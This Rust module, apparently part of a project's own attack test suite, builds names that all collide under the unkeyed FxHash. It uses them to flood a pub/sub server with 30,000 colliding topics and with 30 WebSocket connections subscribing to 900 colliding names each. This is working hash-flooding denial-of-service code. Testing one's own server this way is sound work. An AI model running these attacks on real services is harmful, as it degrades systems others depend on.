//! Names that all fall into one place of a hash table whose function takes no key.
//!
//! FxHash as `rustc-hash` 2 has it takes 16 bytes at a time, x and y, and keeps two words:
//!
//! ```text
//!   t = mix(s0 ^ x, C ^ y);  s0 = s1;  s1 = t          mix(a, b): both halves of a * b, xored
//! ```
//!
//! So mix(0, …) is 0 whatever y is, and `s0` is 0 in the third round if x is the `t` of the first: any y then leads to the
//! same state. A first part has to be found whose `t` is made of letters that a name may have; some 40,000 tries do. The last
//! 16 bytes are taken on their own, and are the same in all names.
//!
//! ```text
//!   |  0 .. 16  found  | 16 .. 32  fixed | 32 .. 40  t | 40 .. 48  free | 48 .. 64  fixed |
//! ```

use std::{io::Write, time::Duration};

use super::{Attack, Attacker, attack, wire};

const LETTERS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_:@+=~-";

/// FxHash's first word, and the constant that y is xored with.
const SEED: u64 = 0x243f_6a88_85a3_08d3;
const C: u64 = 0xa409_3822_299f_31d0;

pub const COLLIDING_TOPICS: Attack = attack(
    "colliding-topics",
    "1 address that publishes on 30,000 topics with one unkeyed hash: each publication searches among all, under the tape's lock",
    colliding_topics,
)
.memory(64, 64);

fn colliding_topics(attacker: &Attacker) {
    let names = Names::find();
    let count = attacker.count(30_000);
    for first in (0..count).step_by(1000) {
        if !attacker.goes_on() {
            return;
        }
        attacker.exchange(&wire::publish_lines((first..count.min(first + 1000)).map(|n| names.name(n)), "1"));
    }
    attacker.settled();
    let again = wire::publish_lines((0..count).rev().take(1000).map(|n| names.name(n)), "1");
    while attacker.goes_on() {
        attacker.exchange(&again);
    }
}

pub const COLLIDING_NAMES: Attack = attack(
    "colliding-names",
    "1 address, 30 connections that subscribe to 900 names each with one unkeyed hash: each subscription searches among all",
    colliding_names,
)
.memory(64, 16);

fn colliding_names(attacker: &Attacker) {
    let names = Names::find();
    let open = |n: usize| {
        let some: Vec<String> = (0..900).map(|name| format!("\"{}\"", names.name(n * 900 + name))).collect();
        let sub = format!(r#"{{"op":"sub","topics":[{}]}}"#, some.join(","));
        let mut stream = attacker.upgraded("/ws")?;
        stream.write_all(&wire::command(&sub)).ok()?;
        Some(stream)
    };
    // Each leaves and comes again, now and then.
    attacker.hold(attacker.count(30), open, Duration::from_millis(200), |stream| {
        let _ = stream.shutdown(std::net::Shutdown::Both);
    });
}

fn mix(a: u64, b: u64) -> u64 {
    let full = u128::from(a) * u128::from(b);
    full as u64 ^ (full >> 64) as u64
}

/// Names of 64 bytes with one hash.
struct Names {
    beginning: [u8; 16],
    t: [u8; 8],
}

impl Names {
    fn find() -> Names {
        let found = (0..).find_map(|n: usize| {
            let mut beginning = *b"attack-hash-....";
            beginning[8..].copy_from_slice(&letters(n));
            let word = |at: usize| u64::from_le_bytes(beginning[at..at + 8].try_into().expect("eight bytes"));
            let t = mix(SEED ^ word(0), C ^ word(8)).to_le_bytes();
            t.iter().all(|byte| LETTERS.contains(byte)).then_some(Names { beginning, t })
        });
        found.expect("one in some 40,000 will do")
    }

    fn name(&self, n: usize) -> String {
        let parts: [&[u8]; 5] = [&self.beginning, &[b'-'; 16], &self.t, &letters(n), &[b'-'; 16]];
        String::from_utf8(parts.concat()).expect("letters")
    }
}

/// A number in eight letters.
fn letters(mut n: usize) -> [u8; 8] {
    std::array::from_fn(|_| {
        let letter = LETTERS[n % LETTERS.len()];
        n /= LETTERS.len();
        letter
    })
}
